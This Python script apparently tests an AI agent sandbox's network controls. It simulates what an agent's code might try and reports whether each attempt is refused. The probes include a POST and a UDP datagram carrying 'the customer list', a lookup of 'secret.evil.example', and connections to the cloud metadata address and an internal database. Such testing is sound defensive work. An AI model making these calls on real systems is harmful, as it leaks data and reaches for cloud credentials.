# SPDX-License-Identifier: MIT
"""What an agent's code might do. Reads the name of a scene a line and answers with what happened, until end of input.

It keeps one connection open from the beginning: that is the one an escalation has to cut.
"""
import errno
import json
import socket
import sys
import textwrap
import urllib.error
import urllib.request

FAR, METADATA = "198.51.100.10", "169.254.169.254"
ASK = f"GET / HTTP/1.1\r\nHost: {FAR}\r\nConnection: close\r\n\r\n".encode()


def tcp(host, port, send=b"", line=True):
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(send)
        return "got " + repr(s.recv(64).split(b"\r\n")[0].decode().strip()) if line else "connected"


def http(method, url, body=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body, method=method), timeout=5) as r:
            return f"{r.status} {r.read(64).decode().strip()}"
    except urllib.error.HTTPError as e:
        answer = json.loads(e.read())
        return f"{e.code}, and its body says:\n" + textwrap.fill(f"{answer['message']} {answer.get('hint', '')}", 112, initial_indent=" " * 8,
                                                                subsequent_indent=" " * 8)


def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(b"the customer list", (address, port))
        return "answered " + repr(s.recv(64).decode())


def own_server():
    with socket.create_server(("127.0.0.1", 0)) as server:
        return tcp(*server.getsockname(), line=False)


def upload(held):
    held.sendall(b"x" * 1000)
    return "still sending" if held.recv(16) else "closed by the far side"


def outcome(action):
    try:
        return action()
    except OSError as error:
        cause = error.reason if isinstance(error, urllib.error.URLError) else error
    if isinstance(cause, socket.gaierror):
        return "no such name"
    return "refused, " + errno.errorcode.get(cause.errno, str(cause))


def main():
    held = socket.create_connection((FAR, 7), timeout=2)
    anywhere = [
        ("an upload that was running", lambda: upload(held)),
        (f"TCP to {FAR}:80", lambda: tcp(FAR, 80, ASK)),
        (f"a UDP datagram to {FAR}:9", lambda: udp(FAR, 9)),
    ]
    scenes = {
        "full": anywhere + [
            (f"cloud metadata, {METADATA}", lambda: tcp(METADATA, 80, ASK)),
            ("the host's 127.0.0.1:8500", lambda: tcp("127.0.0.1", 8500, ASK)),
            ("a server of its own", own_server),
        ],
        "proxied": anywhere + [
            ("GET https://api.example.org/v1", lambda: http("GET", "https://api.example.org/v1")),
            ("POST https://api.example.org/v1", lambda: http("POST", "https://api.example.org/v1", b"the customer list")),
            ("a name: secret.evil.example", lambda: socket.getaddrinfo("secret.evil.example", 443)),
            ("database db.corp.example:5432", lambda: tcp("db.corp.example", 5432, b"select 1")),
        ],
        "none": anywhere[:2] + [
            ("GET https://api.example.org/v1", lambda: http("GET", "https://api.example.org/v1")),
            ("a server of its own", own_server),
        ],
        "orphan": anywhere[1:],
    }
    for line in sys.stdin:
        for name, action in scenes.get(line.strip(), []):
            print(f"    {name:34} {outcome(action)}")
        print("done", flush=True)


main()
